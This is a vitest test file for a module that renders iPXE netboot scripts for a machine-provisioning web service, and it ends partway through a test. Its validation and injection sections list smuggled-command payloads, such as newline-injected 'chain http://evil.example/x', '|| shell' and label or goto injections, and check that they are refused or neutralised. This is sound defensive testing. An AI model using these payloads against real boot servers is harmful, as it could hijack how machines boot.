import { describe, expect, it } from 'vitest';
import { BtyError } from '../../src/core/errors.ts';
import {
  DEFAULT_SANBOOT_DRIVE,
  IPXE_SCRIPT_KINDS,
  renderBootstrapScript,
  renderIpxeScript,
  sanitiseHost,
  type IpxeScript,
  type IpxeScriptKind,
  type IpxeScriptParams,
} from '../../src/web/ipxe.ts';

const MAC = 'aa:bb:cc:dd:ee:ff';
const REF = '0123456789abcdef'.repeat(4);
const HOST = '10.0.0.5:8080';
const VERSION = '0.70.1';

/** The live-environment commands upstream sends, for MAC / HOST / VERSION above. */
const LIVE_ENV_COMMANDS = [
  'set bty-base http://10.0.0.5:8080',
  'kernel ${bty-base}/boot/bty-netboot-pc-x86_64-v0.70.1.vmlinuz?mac=aa:bb:cc:dd:ee:ff boot=live fetch=${bty-base}/boot/bty-netboot-pc-x86_64-v0.70.1.squashfs components console=tty0 console=ttyS1,115200 console=ttyS0,115200 earlyprintk=ttyS0,115200 plymouth.enable=0 modprobe.blacklist=nouveau,rndis_host nouveau.modeset=0 systemd.gpt_auto=0 bty.server=${bty-base} bty.mac=aa:bb:cc:dd:ee:ff',
  'initrd ${bty-base}/boot/bty-netboot-pc-x86_64-v0.70.1.initrd?mac=aa:bb:cc:dd:ee:ff',
  'boot',
];

const lines = (...l: string[]): string => l.join('\n') + '\n';

/** One valid example of every script kind (used by the properties that hold for all kinds). */
const EXAMPLES: { [K in IpxeScriptKind]: IpxeScriptParams[K] } = {
  'live-env': { mac: MAC, host: HOST, version: VERSION },
  flash: { mac: MAC, host: HOST, version: VERSION, ref: REF, targetDiskSerial: 'S4EVNF0M123456' },
  'disk-boot': { mac: MAC, bootMode: 'ipxe-exit', ref: REF, labels: ['rack-1'], drive: '0x81' },
  'exit-fallback': { mac: MAC, bootMode: 'bty-flash-once', ref: REF, reason: 'no_target_disk' },
  unknown: { mac: MAC, bootMode: 'bty-flash-always' },
};

function allExampleScripts(): [string, string][] {
  const out: [string, string][] = IPXE_SCRIPT_KINDS.map((kind) => [
    kind,
    renderIpxeScript(kind, EXAMPLES[kind]),
  ]);
  out.push(['bootstrap', renderBootstrapScript(HOST)]);
  return out;
}

function caught(fn: () => unknown): BtyError {
  try {
    fn();
  } catch (err) {
    if (err instanceof BtyError) return err;
    throw err;
  }
  throw new Error('expected a BtyError, nothing was thrown');
}

// ---- a small model of how iPXE reads a script (src/image/script.c, src/core/exec.c) ----------

interface IpxeCommand {
  readonly words: readonly string[];
  /** `&&`, `||`, `;`, or null for the last command of the line. */
  readonly then: string | null;
}
interface IpxeLine {
  readonly label: string | null;
  readonly commands: readonly IpxeCommand[];
}

/**
 * Lines split on \n, a trailing \r dropped, a trailing backslash joining the next line, a leading
 * `:word` taken as a label, words split on whitespace, a word starting with `#` ending the
 * command line, and `&&` / `||` / `;` chaining commands. Blank and comment-only lines are kept
 * out of the result.
 */
function parseIpxe(text: string): IpxeLine[] {
  const out: IpxeLine[] = [];
  let pending = '';
  const physical = text.split('\n');
  if (physical.at(-1) === '') physical.pop();
  for (const raw of physical) {
    const line = pending + (raw.endsWith('\r') ? raw.slice(0, -1) : raw);
    if (line.endsWith('\\')) {
      pending = line.slice(0, -1);
      continue;
    }
    pending = '';
    let rest = line.replace(/^[ \t\n\v\f\r]+/, '');
    let label: string | null = null;
    if (rest.startsWith(':')) {
      const m = /^:(\S*)\s*([\s\S]*)$/.exec(rest);
      label = m?.[1] ?? '';
      rest = m?.[2] ?? '';
    }
    const commands: IpxeCommand[] = [];
    let words: string[] = [];
    for (const word of rest.split(/[ \t\n\v\f\r]+/).filter((w) => w !== '')) {
      if (word.startsWith('#')) break;
      if (word === '&&' || word === '||' || word === ';') {
        commands.push({ words, then: word });
        words = [];
      } else {
        words.push(word);
      }
    }
    if (words.length > 0) commands.push({ words, then: null });
    if (label !== null || commands.length > 0) out.push({ label, commands });
  }
  return out;
}

/** What iPXE would do, ignoring the text of echo and comments: labels, command names, chaining. */
function structure(text: string): unknown {
  return parseIpxe(text).map((l) => ({
    label: l.label,
    commands: l.commands.map((c) => [c.words[0], c.then]),
  }));
}

/**
 * Runs one line the way iPXE's system() does: a skipped command keeps the previous status, and
 * `exit` (or a sanboot that works) ends everything. Returns the commands that ran.
 */
function runLine(line: IpxeLine, env: { platform: string; sanbootWorks: boolean }): string[] {
  const ran: string[] = [];
  let rc = 0;
  let run = true;
  for (const c of line.commands) {
    if (run) {
      const name = c.words[0] ?? '';
      ran.push(name);
      if (name === 'exit') return ran;
      if (name === 'iseq') {
        const expand = (w: string | undefined) => (w === '${platform}' ? env.platform : w);
        rc = expand(c.words[1]) === expand(c.words[2]) ? 0 : 1;
      } else if (name === 'sanboot') {
        if (env.sanbootWorks) return ran;
        rc = 1;
      } else {
        rc = 0;
      }
    }
    if (c.then === null) break;
    run = c.then === '&&' ? rc === 0 : c.then === '||' ? rc !== 0 : true;
  }
  return ran;
}

// ---- exact text ---------------------------------------------------------------------------------

describe('renderBootstrapScript (/pxe-bootstrap.ipxe)', () => {
  it('is the exact script: a Host-relative chain to /pxe/${mac:hexhyp}', () => {
    expect(renderBootstrapScript(HOST)).toBe(
      lines(
        '#!ipxe',
        '# bty-web bootstrap: ask bty-web what this machine should do next.',
        '# The URL reuses the Host this script was fetched from, so an IP address, a host name, a',
        '# .local name and a non-default port all loop back to the same server.',
        '# ${mac:hexhyp} is the MAC of the NIC that just did DHCP. A NIC-prefixed form (net0) would',
        '# read the EEPROM MAC of the first NIC even when it is unplugged, and a multi-NIC machine',
        '# would then ask about a MAC that has no assignment.',
        'chain http://10.0.0.5:8080/pxe/${mac:hexhyp}',
      ),
    );
  });

  it('has exactly one command', () => {
    expect(structure(renderBootstrapScript('bty.lan'))).toEqual([
      { label: null, commands: [['chain', null]] },
    ]);
  });
});

describe('renderIpxeScript: exact text of every script kind', () => {
  it('live-env (rows 1, 3, 6: wizard, inventory, ramboot fallback)', () => {
    expect(renderIpxeScript('live-env', { mac: MAC, host: HOST, version: VERSION })).toBe(
      lines(
        '#!ipxe',
        '# bty-web: boot the bty live environment on aa:bb:cc:dd:ee:ff',
        '# It asks bty-web for /pxe/aa:bb:cc:dd:ee:ff/plan and does what the plan says.',
        '',
        ...LIVE_ENV_COMMANDS,
      ),
    );
  });

  it('flash (row 8): the live-env commands, with ref and target serial in the comments', () => {
    const params = { mac: MAC, host: HOST, version: VERSION, ref: REF, targetDiskSerial: 'S4EV' };
    expect(renderIpxeScript('flash', params)).toBe(
      lines(
        '#!ipxe',
        '# bty-web: flash aa:bb:cc:dd:ee:ff from the bty live environment',
        `#   bty_image_ref:      ${REF}`,
        '#   target_disk_serial: S4EV',
        '# The image URL and the target disk come from /pxe/aa:bb:cc:dd:ee:ff/plan, not from the kernel',
        '# command line.',
        '',
        ...LIVE_ENV_COMMANDS,
      ),
    );
  });

  it('flash with an image name', () => {
    const params = {
      mac: MAC,
      host: HOST,
      version: VERSION,
      ref: REF,
      targetDiskSerial: 'S4EV',
      imageName: 'Debian 13 (trixie) amd64',
    };
    expect(renderIpxeScript('flash', params)).toBe(
      lines(
        '#!ipxe',
        '# bty-web: flash aa:bb:cc:dd:ee:ff from the bty live environment',
        `#   bty_image_ref:      ${REF}`,
        '#   image name:         Debian 13 (trixie) amd64',
        '#   target_disk_serial: S4EV',
        '# The image URL and the target disk come from /pxe/aa:bb:cc:dd:ee:ff/plan, not from the kernel',
        '# command line.',
        '',
        ...LIVE_ENV_COMMANDS,
      ),
    );
  });

  it('flash and live-env send identical commands', () => {
    const commands = (s: string) => s.split('\n').filter((l) => l !== '' && !l.startsWith('#'));
    expect(commands(renderIpxeScript('flash', EXAMPLES.flash))).toEqual(
      commands(renderIpxeScript('live-env', EXAMPLES['live-env'])),
    );
  });

  it('disk-boot (rows 2, 4, 7) with a drive, a ref and labels', () => {
    const params = {
      mac: MAC,
      bootMode: 'bty-flash-always',
      ref: REF,
      labels: ['lab-a', 'rack 2'],
      drive: '0x81',
    };
    expect(renderIpxeScript('disk-boot', params)).toBe(
      lines(
        '#!ipxe',
        '# bty-web: boot the local disk of aa:bb:cc:dd:ee:ff (boot_mode=bty-flash-always)',
        `#   image (ref):    ${REF}`,
        '#   labels:         lab-a, rack 2',
        '#   boot_mode:      bty-flash-always',
        '#   sanboot drive:  0x81',
        '# UEFI has no INT13 drive map, so sanboot cannot see the disk there: exit hands the boot',
        '# back to the firmware boot order. Legacy BIOS sanboots the BIOS drive number (not a Linux',
        '# disk serial) and falls back to the firmware boot order if that fails.',
        '',
        'echo bty: aa:bb:cc:dd:ee:ff boot_mode=bty-flash-always, booting local disk (platform=${platform})',
        'sleep 1',
        'iseq ${platform} efi && exit || sanboot --no-describe --drive 0x81 || exit',
      ),
    );
  });

  it('disk-boot without drive, ref or labels: drive 0x80, "(none)"', () => {
    expect(renderIpxeScript('disk-boot', { mac: 'AA-BB-CC-DD-EE-FF', bootMode: 'ipxe-exit' })).toBe(
      lines(
        '#!ipxe',
        '# bty-web: boot the local disk of aa:bb:cc:dd:ee:ff (boot_mode=ipxe-exit)',
        '#   image (ref):    (none)',
        '#   labels:         (none)',
        '#   boot_mode:      ipxe-exit',
        '#   sanboot drive:  0x80',
        '# UEFI has no INT13 drive map, so sanboot cannot see the disk there: exit hands the boot',
        '# back to the firmware boot order. Legacy BIOS sanboots the BIOS drive number (not a Linux',
        '# disk serial) and falls back to the firmware boot order if that fails.',
        '',
        'echo bty: aa:bb:cc:dd:ee:ff boot_mode=ipxe-exit, booting local disk (platform=${platform})',
        'sleep 1',
        'iseq ${platform} efi && exit || sanboot --no-describe --drive 0x80 || exit',
      ),
    );
    expect(
      renderIpxeScript('disk-boot', { mac: MAC, bootMode: 'ipxe-exit', ref: null, drive: null }),
    ).toBe(renderIpxeScript('disk-boot', { mac: MAC, bootMode: 'ipxe-exit', labels: [] }));
    expect(DEFAULT_SANBOOT_DRIVE).toBe('0x80');
  });

  it('exit-fallback (row 9: no target disk)', () => {
    const params = {
      mac: MAC,
      bootMode: 'bty-flash-once',
      ref: REF,
      labels: ['ci'],
      reason: 'no_target_disk' as const,
    };
    expect(renderIpxeScript('exit-fallback', params)).toBe(
      lines(
        '#!ipxe',
        '# bty-web: aa:bb:cc:dd:ee:ff cannot be flashed (no_target_disk); back to the firmware boot order',
        `#   image (ref):    ${REF}`,
        '#   labels:         ci',
        '#   boot_mode:      bty-flash-once',
        '#   sanboot drive:  0x80',
        '',
        'echo bty: aa:bb:cc:dd:ee:ff boot_mode=bty-flash-once ref=0123456789ab..., returning to local boot',
        'sleep 1',
        'exit',
      ),
    );
  });

  it('exit-fallback (row 10: orphan ref) with a drive', () => {
    const params = {
      mac: MAC,
      bootMode: 'bty-flash-always',
      ref: 'f'.repeat(64),
      drive: '0x82',
      reason: 'orphan_ref' as const,
    };
    expect(renderIpxeScript('exit-fallback', params)).toBe(
      lines(
        '#!ipxe',
        '# bty-web: aa:bb:cc:dd:ee:ff cannot be flashed (orphan_ref); back to the firmware boot order',
        `#   image (ref):    ${'f'.repeat(64)}`,
        '#   labels:         (none)',
        '#   boot_mode:      bty-flash-always',
        '#   sanboot drive:  0x82',
        '',
        'echo bty: aa:bb:cc:dd:ee:ff boot_mode=bty-flash-always ref=ffffffffffff..., returning to local boot',
        'sleep 1',
        'exit',
      ),
    );
  });

  it('exit-fallback without a ref echoes ref=none...', () => {
    const script = renderIpxeScript('exit-fallback', {
      mac: MAC,
      bootMode: 'bty-flash-once',
      reason: 'orphan_ref',
    });
    expect(script).toContain('#   image (ref):    (none)\n');
    expect(script).toContain(
      '\necho bty: aa:bb:cc:dd:ee:ff boot_mode=bty-flash-once ref=none..., returning to local boot\n',
    );
  });

  it('unknown (row 11): sleep 5, drive fixed at 0x80', () => {
    expect(renderIpxeScript('unknown', { mac: MAC, bootMode: 'bty-flash-always' })).toBe(
      lines(
        '#!ipxe',
        '# bty-web: no usable bty assignment for aa:bb:cc:dd:ee:ff',
        '#   boot_mode: bty-flash-always',
        '# Boots the local disk like a disk boot does, on the first BIOS disk (0x80).',
        '',
        'echo no usable bty assignment for aa:bb:cc:dd:ee:ff; booting local disk (platform=${platform})',
        'sleep 5',
        'iseq ${platform} efi && exit || sanboot --no-describe --drive 0x80 || exit',
      ),
    );
    expect(renderIpxeScript('unknown', { mac: MAC })).toContain('#   boot_mode: (none)\n');
  });

  it('accepts a boot decision as a discriminated union (kind + params)', () => {
    const render = <K extends IpxeScriptKind>(s: IpxeScript<K>): string =>
      renderIpxeScript(s.kind, s.params);
    const decided: IpxeScript[] = [
      { kind: 'unknown', params: { mac: MAC } },
      { kind: 'live-env', params: EXAMPLES['live-env'] },
    ];
    expect(decided.map(render)).toEqual([
      renderIpxeScript('unknown', { mac: MAC }),
      renderIpxeScript('live-env', EXAMPLES['live-env']),
    ]);
  });
});

describe('every script', () => {
  it.each(allExampleScripts())(
    '%s: plain ASCII, starts with #!ipxe, ends with a newline',
    (_, s) => {
      expect(s).toMatch(/^[\x20-\x7e\n]*$/);
      // iPXE recognises a script by "#!ipxe" followed by whitespace.
      expect(s.startsWith('#!ipxe\n')).toBe(true);
      expect(s.endsWith('\n')).toBe(true);
      expect(s.endsWith('\n\n')).toBe(false);
      expect(s).not.toContain('\r');
    },
  );

  it.each(allExampleScripts())('%s: the same input always gives the same text', (kind, s) => {
    const again =
      kind === 'bootstrap'
        ? renderBootstrapScript(HOST)
        : renderIpxeScript(kind as IpxeScriptKind, EXAMPLES[kind as IpxeScriptKind] as never);
    expect(again).toBe(s);
  });

  it('the MAC is canonical whatever form it was given in', () => {
    for (const kind of IPXE_SCRIPT_KINDS) {
      const params = { ...EXAMPLES[kind], mac: 'AA-bb:CC-dd:EE-ff' };
      expect(renderIpxeScript(kind, params as never)).toBe(renderIpxeScript(kind, EXAMPLES[kind]));
    }
  });
});

// ---- field lessons (upstream-web §7.6) ----------------------------------------------------------

describe('field lessons', () => {
  const liveScripts = () => [
    renderIpxeScript('live-env', EXAMPLES['live-env']),
    renderIpxeScript('flash', EXAMPLES.flash),
  ];
  const kernelArgs = (s: string): string[] => {
    const kernel = parseIpxe(s).find((l) => l.commands[0]?.words[0] === 'kernel');
    return [...(kernel?.commands[0]?.words.slice(1) ?? [])];
  };

  it('lesson: chain with ${mac:hexhyp} (the NIC that did DHCP), never ${net0/mac:hexhyp}', () => {
    const bootstrap = renderBootstrapScript(HOST);
    const chain = parseIpxe(bootstrap).map((l) => l.commands[0]?.words ?? []);
    expect(chain).toEqual([['chain', 'http://10.0.0.5:8080/pxe/${mac:hexhyp}']]);
    for (const [, s] of allExampleScripts()) expect(s).not.toContain('${net0/');
  });

  it.each([
    ['10.0.0.5', 'an IPv4 address'],
    ['10.0.0.5:8080', 'an IPv4 address and port'],
    ['bty', 'a short name'],
    ['bty.lab.example.org', 'a DNS name'],
    ['bty-web.local', 'an mDNS .local name'],
    ['bty-web.local:8443', 'a name and port'],
    ['[fd00::5]', 'an IPv6 address'],
    ['[fd00::5]:8080', 'an IPv6 address and port'],
    ['BTY.Example.ORG.', 'mixed case with a root dot, verbatim'],
  ])('lesson: URLs use the request Host verbatim, so %s (%s) loops back', (host) => {
    expect(renderBootstrapScript(host)).toContain(`\nchain http://${host}/pxe/\${mac:hexhyp}\n`);
    const live = renderIpxeScript('live-env', { ...EXAMPLES['live-env'], host });
    expect(live).toContain(`\nset bty-base http://${host}\n`);
    // Every other URL is built on ${bty-base}, so the host appears exactly once.
    expect(live.split(`http://${host}`)).toHaveLength(2);
    expect(sanitiseHost(host)).toBe(host);
  });

  it('lesson: kernel and initrd URLs carry ?mac=, so fetching them arms the one-shot disk boot', () => {
    for (const s of liveScripts()) {
      const cmds = parseIpxe(s).map((l) => l.commands[0]?.words ?? []);
      const kernel = cmds.find((w) => w[0] === 'kernel') ?? [];
      const initrd = cmds.find((w) => w[0] === 'initrd') ?? [];
      expect(kernel[1]).toBe('${bty-base}/boot/bty-netboot-pc-x86_64-v0.70.1.vmlinuz?mac=' + MAC);
      expect(initrd).toEqual([
        'initrd',
        '${bty-base}/boot/bty-netboot-pc-x86_64-v0.70.1.initrd?mac=' + MAC,
      ]);
    }
  });

  it('lesson: the squashfs fetch= URL is not tagged (live-boot aborts on ? or : in it)', () => {
    for (const s of liveScripts()) {
      const fetch = kernelArgs(s).filter((a) => a.startsWith('fetch='));
      expect(fetch).toEqual(['fetch=${bty-base}/boot/bty-netboot-pc-x86_64-v0.70.1.squashfs']);
      const path = (fetch[0] ?? '').slice('fetch=${bty-base}'.length);
      expect(path).not.toMatch(/[?:]/);
    }
  });

  it('lesson: consoles on tty0 and both BMC UARTs, ttyS0 last, earlyprintk on ttyS0, no quiet', () => {
    for (const s of liveScripts()) {
      const args = kernelArgs(s);
      expect(args.filter((a) => a.startsWith('console='))).toEqual([
        'console=tty0',
        'console=ttyS1,115200',
        'console=ttyS0,115200',
      ]);
      expect(args).toContain('earlyprintk=ttyS0,115200');
      expect(args).not.toContain('quiet');
    }
  });

  it('lesson: plymouth.enable=0 (plymouth-quit-wait hung on some iGPUs)', () => {
    for (const s of liveScripts()) expect(kernelArgs(s)).toContain('plymouth.enable=0');
  });

  it('lesson: nouveau and the BMC RNDIS NIC are blacklisted, nouveau.modeset=0', () => {
    for (const s of liveScripts()) {
      const args = kernelArgs(s);
      expect(args).toContain('modprobe.blacklist=nouveau,rndis_host');
      expect(args).toContain('nouveau.modeset=0');
    }
  });

  it("lesson: systemd.gpt_auto=0 keeps the flash target's partitions unmounted", () => {
    for (const s of liveScripts()) expect(kernelArgs(s)).toContain('systemd.gpt_auto=0');
  });

  it('lesson: the kernel command line carries only bty.server and bty.mac as bty knobs', () => {
    for (const s of liveScripts()) {
      const args = kernelArgs(s);
      expect(args.filter((a) => a.startsWith('bty.'))).toEqual([
        'bty.server=${bty-base}',
        `bty.mac=${MAC}`,
      ]);
      for (const retired of [
        'bty.mode=',
        'bty.image_url',
        'bty.target_disk_serial',
        'bty.image_format',
        'bty.provisioning',
      ]) {
        expect(s).not.toContain(retired);
      }
      expect(args.slice(1, 4)).toEqual([
        'boot=live',
        'fetch=${bty-base}/boot/bty-netboot-pc-x86_64-v0.70.1.squashfs',
        'components',
      ]);
    }
  });

  it('lesson: disk boot is firmware-split: UEFI exits to firmware, BIOS sanboots with || exit', () => {
    for (const s of [
      renderIpxeScript('disk-boot', { mac: MAC, bootMode: 'ipxe-exit', drive: '0x81' }),
      renderIpxeScript('unknown', { mac: MAC }),
    ]) {
      const last = parseIpxe(s).at(-1);
      if (!last) throw new Error('empty script');
      // UEFI has no INT13 drive map: sanboot is never tried, exit hands back to the firmware.
      expect(runLine(last, { platform: 'efi', sanbootWorks: false })).toEqual(['iseq', 'exit']);
      // Legacy BIOS: sanboot the drive; if that fails, exit to the firmware boot order.
      expect(runLine(last, { platform: 'pcbios', sanbootWorks: true })).toEqual([
        'iseq',
        'sanboot',
      ]);
      expect(runLine(last, { platform: 'pcbios', sanbootWorks: false })).toEqual([
        'iseq',
        'sanboot',
        'exit',
      ]);
      const sanboot = last.commands.find((c) => c.words[0] === 'sanboot');
      expect(sanboot?.words.slice(1, 3)).toEqual(['--no-describe', '--drive']);
    }
  });

  it('lesson: the sanboot drive is a BIOS drive number, never a Linux disk serial', () => {
    for (const drive of ['S4EVNF0M123456', '/dev/sda', 'sda', '128']) {
      const err = caught(() =>
        renderIpxeScript('disk-boot', { mac: MAC, bootMode: 'ipxe-exit', drive }),
      );
      expect(err.code).toBe('BTY_ERR_BAD_INPUT');
      expect(err.details).toEqual({ field: 'sanboot_drive' });
    }
  });

  it('lesson: ramboot (whose initramfs never reaches bty userspace) is not a script kind here', () => {
    expect(IPXE_SCRIPT_KINDS).not.toContain('ramboot');
    const err = caught(() => renderIpxeScript('ramboot' as IpxeScriptKind, { mac: MAC }));
    expect(err.code).toBe('BTY_ERR_BAD_INPUT');
    expect(err.details).toEqual({ field: 'kind' });
  });
});

// ---- validation: values used in commands and URLs are refused --------------------------------

describe('invalid values in commands or URLs are refused, naming the field', () => {
  const live = EXAMPLES['live-env'];
  const disk = EXAMPLES['disk-boot'];
  const cases: [string, () => unknown, string][] = [
    [
      'MAC without separators',
      () => renderIpxeScript('live-env', { ...live, mac: 'aabbccddeeff' }),
      'mac',
    ],
    ['MAC with a newline', () => renderIpxeScript('unknown', { mac: `${MAC}\nshell` }), 'mac'],
    [
      'MAC with a command',
      () => renderIpxeScript('disk-boot', { ...disk, mac: `${MAC} || shell` }),
      'mac',
    ],
    ['empty host', () => renderBootstrapScript(''), 'host'],
    ['host with a newline', () => renderBootstrapScript('bty\nshell'), 'host'],
    ['host with a CR', () => renderBootstrapScript('bty\r'), 'host'],
    ['host with a space', () => renderBootstrapScript('bty shell'), 'host'],
    ['host with a setting', () => renderBootstrapScript('${net0/ip}'), 'host'],
    ['host with &&', () => renderBootstrapScript('bty&&shell'), 'host'],
    ['host with ||', () => renderBootstrapScript('bty||shell'), 'host'],
    ['host with #', () => renderBootstrapScript('bty#x'), 'host'],
    ['host with ;', () => renderBootstrapScript('bty;shell'), 'host'],
    ['host with a quote', () => renderBootstrapScript('"bty"'), 'host'],
    ['host with a path', () => renderBootstrapScript('bty/evil'), 'host'],
    ['host with userinfo', () => renderBootstrapScript('user@bty'), 'host'],
    ['host with a query', () => renderBootstrapScript('bty?x=1'), 'host'],
    ['host with a backslash', () => renderBootstrapScript('bty\\'), 'host'],
    ['host with non-ASCII', () => renderBootstrapScript('bty\u00e9.lan'), 'host'],
    ['host starting with :', () => renderBootstrapScript(':label'), 'host'],
    ['host with port 0', () => renderBootstrapScript('bty:0'), 'host'],
    ['host with port 65536', () => renderBootstrapScript('bty:65536'), 'host'],
    ['host with an empty port', () => renderBootstrapScript('bty:'), 'host'],
    ['host with two ports', () => renderBootstrapScript('bty:80:81'), 'host'],
    ['bad IPv4', () => renderBootstrapScript('10.0.0.256'), 'host'],
    ['short IPv4', () => renderBootstrapScript('10.0.5'), 'host'],
    ['bare IPv6', () => renderBootstrapScript('fd00::5'), 'host'],
    ['bad IPv6', () => renderBootstrapScript('[fd00::5::6]'), 'host'],
    ['IPv6 with a zone', () => renderBootstrapScript('[fe80::1%eth0]'), 'host'],
    ['label over 63', () => renderBootstrapScript(`${'a'.repeat(64)}.lan`), 'host'],
    ['label starting with -', () => renderBootstrapScript('-bty.lan'), 'host'],
    ['empty label', () => renderBootstrapScript('bty..lan'), 'host'],
    ['live-env host', () => renderIpxeScript('live-env', { ...live, host: 'a b' }), 'host'],
    ['flash host', () => renderIpxeScript('flash', { ...EXAMPLES.flash, host: 'a\nb' }), 'host'],
    ['drive 0x8', () => renderIpxeScript('disk-boot', { ...disk, drive: '0x8' }), 'sanboot_drive'],
    [
      'drive 0X80',
      () => renderIpxeScript('disk-boot', { ...disk, drive: '0X80' }),
      'sanboot_drive',
    ],
    [
      'drive 0x8A',
      () => renderIpxeScript('disk-boot', { ...disk, drive: '0x8A' }),
      'sanboot_drive',
    ],
    [
      'drive 0x800',
      () => renderIpxeScript('disk-boot', { ...disk, drive: '0x800' }),
      'sanboot_drive',
    ],
    ['empty drive', () => renderIpxeScript('disk-boot', { ...disk, drive: '' }), 'sanboot_drive'],
    [
      'drive + command',
      () => renderIpxeScript('disk-boot', { ...disk, drive: '0x80 || shell' }),
      'sanboot_drive',
    ],
    [
      'drive + newline',
      () => renderIpxeScript('disk-boot', { ...disk, drive: '0x80\n' }),
      'sanboot_drive',
    ],
    [
      'exit-fallback drive',
      () => renderIpxeScript('exit-fallback', { ...EXAMPLES['exit-fallback'], drive: '${x}' }),
      'sanboot_drive',
    ],
    [
      'upper-case ref',
      () => renderIpxeScript('disk-boot', { ...disk, ref: REF.toUpperCase() }),
      'bty_image_ref',
    ],
    [
      'short ref',
      () => renderIpxeScript('disk-boot', { ...disk, ref: REF.slice(1) }),
      'bty_image_ref',
    ],
    ['empty ref', () => renderIpxeScript('disk-boot', { ...disk, ref: '' }), 'bty_image_ref'],
    [
      'ref + newline',
      () => renderIpxeScript('flash', { ...EXAMPLES.flash, ref: `${REF}\nshell` }),
      'bty_image_ref',
    ],
    [
      'exit-fallback ref',
      () => renderIpxeScript('exit-fallback', { ...EXAMPLES['exit-fallback'], ref: '${x}' }),
      'bty_image_ref',
    ],
    ['empty version', () => renderIpxeScript('live-env', { ...live, version: '' }), 'version'],
    [
      'version with /',
      () => renderIpxeScript('live-env', { ...live, version: '1/../x' }),
      'version',
    ],
    [
      'version with ?',
      () => renderIpxeScript('flash', { ...EXAMPLES.flash, version: '1?x' }),
      'version',
    ],
    [
      'version + space',
      () => renderIpxeScript('live-env', { ...live, version: '1 quiet' }),
      'version',
    ],
    [
      'version + setting',
      () => renderIpxeScript('live-env', { ...live, version: '${x}' }),
      'version',
    ],
    [
      'unknown reason',
      () =>
        renderIpxeScript('exit-fallback', {
          ...EXAMPLES['exit-fallback'],
          reason: 'other' as 'orphan_ref',
        }),
      'reason',
    ],
    ['unknown kind', () => renderIpxeScript('shell' as IpxeScriptKind, { mac: MAC }), 'kind'],
  ];

  it.each(cases)('%s', (_, render, field) => {
    const err = caught(render);
    expect(err.code).toBe('BTY_ERR_BAD_INPUT');
    expect(err.details).toEqual({ field });
    expect(err.message).toMatch(new RegExp(`^invalid ${field === 'mac' ? 'MAC' : field}: `));
    expect(err.httpStatus).toBe(400);
  });

  it('the message shows the raw value escaped and says what was expected', () => {
    expect(caught(() => renderBootstrapScript('bty\nshell')).message).toBe(
      "invalid host: 'bty\\nshell' (expected a host name, an IPv4 address or a [bracketed] IPv6 address, with an optional :port)",
    );
    expect(caught(() => renderIpxeScript('disk-boot', { ...disk, drive: '0x8' })).message).toBe(
      "invalid sanboot_drive: '0x8' (expected a BIOS drive number: 0x and two lower-case hex digits)",
    );
  });
});

// ---- injection: free text shown in comments and echo is neutralised --------------------------

describe('free text cannot inject iPXE commands', () => {
  const PAYLOADS = [
    'x\nchain http://evil.example/x',
    'x\r\nshell',
    'x\n:label',
    ':label',
    '${net0/mac:hexhyp}',
    '${bty-base}',
    'x && shell',
    'x || shell',
    'x ; shell',
    ';',
    '&&',
    '# comment',
    'x #comment',
    `"double" 'single' \`back\``,
    'trailing backslash\\',
    'tab\there\vand\fform',
    'nul\u0000byte',
    'caf\u00e9 \u2713 \u{1f680}',
    'line\u2028separator',
  ];

  const fields: [string, IpxeScriptKind, (text: string) => IpxeScriptParams[IpxeScriptKind]][] = [
    ['a label (disk-boot)', 'disk-boot', (t) => ({ ...EXAMPLES['disk-boot'], labels: ['ok', t] })],
    [
      'a label (exit-fallback)',
      'exit-fallback',
      (t) => ({ ...EXAMPLES['exit-fallback'], labels: [t] }),
    ],
    [
      'the boot mode (disk-boot echo)',
      'disk-boot',
      (t) => ({ ...EXAMPLES['disk-boot'], bootMode: t }),
    ],
    [
      'the boot mode (exit-fallback echo)',
      'exit-fallback',
      (t) => ({ ...EXAMPLES['exit-fallback'], bootMode: t }),
    ],
    ['the boot mode (unknown)', 'unknown', (t) => ({ mac: MAC, bootMode: t })],
    ['the target serial (flash)', 'flash', (t) => ({ ...EXAMPLES.flash, targetDiskSerial: t })],
    ['the image name (flash)', 'flash', (t) => ({ ...EXAMPLES.flash, imageName: t })],
  ];

  const ALLOWED_SETTINGS = new Set(['${platform}', '${bty-base}', '${mac:hexhyp}']);

  describe.each(fields)('%s', (_, kind, params) => {
    const benign = renderIpxeScript(kind, params('harmless text'));

    it.each(PAYLOADS)('%j', (payload) => {
      const script = renderIpxeScript(kind, params(payload));
      // Same lines, labels, commands and chaining as with harmless text.
      expect(structure(script)).toEqual(structure(benign));
      expect(script.split('\n')).toHaveLength(benign.split('\n').length);
      // No setting expansion other than the script's own.
      for (const m of script.matchAll(/\$\{[^}]*\}/g))
        expect(ALLOWED_SETTINGS.has(m[0])).toBe(true);
      expect(script.split('${').length).toBe(benign.split('${').length);
      // No line continuation, ASCII only.
      expect(script).not.toMatch(/\\\n/);
      expect(script).toMatch(/^[\x20-\x7e\n]*$/);
    });
  });

  it('neutralised text keeps safe characters and turns every other one into _', () => {
    const script = renderIpxeScript('disk-boot', {
      mac: MAC,
      bootMode: 'ipxe-exit && shell',
      labels: ['rack-1\nchain http://evil.example/x', '${net0/ip} #x', 'a\\', 'caf\u00e9 "q"'],
    });
    expect(script).toContain(
      '\n#   labels:         rack-1_chain http://evil.example/x, __net0/ip_ _x, a_, caf_ _q_\n',
    );
    expect(script).toContain('\n#   boot_mode:      ipxe-exit __ shell\n');
    expect(script).toContain(
      '\necho bty: aa:bb:cc:dd:ee:ff boot_mode=ipxe-exit __ shell, booting local disk (platform=${platform})\n',
    );
  });

  it('a flash script with hostile serial and image name, exactly', () => {
    const script = renderIpxeScript('flash', {
      ...EXAMPLES.flash,
      targetDiskSerial: 'WD-1234\n:evil\ngoto evil',
      imageName: "Ubuntu ${x} || reboot; 'x'",
    });
    expect(script).toBe(
      lines(
        '#!ipxe',
        '# bty-web: flash aa:bb:cc:dd:ee:ff from the bty live environment',
        `#   bty_image_ref:      ${REF}`,
        '#   image name:         Ubuntu __x_ __ reboot_ _x_',
        '#   target_disk_serial: WD-1234_:evil_goto evil',
        '# The image URL and the target disk come from /pxe/aa:bb:cc:dd:ee:ff/plan, not from the kernel',
        '# command line.',
        '',
        ...LIVE_ENV_COMMANDS,
      ),
    );
  });

  it('the iPXE model used above does see an unneutralised injection', () => {
    // Guards the guard: raw text in a comment or echo does change what iPXE runs.
    const base = lines('#!ipxe', '# labels: X', 'echo mode=Y', 'exit');
    const structureOf = (label: string, mode: string) =>
      structure(base.replace('X', label).replace('Y', mode));
    expect(structureOf('ok', 'ok')).not.toEqual(structureOf('a\nshell', 'ok'));
    expect(structureOf('ok', 'ok')).not.toEqual(structureOf('a\\', 'ok'));
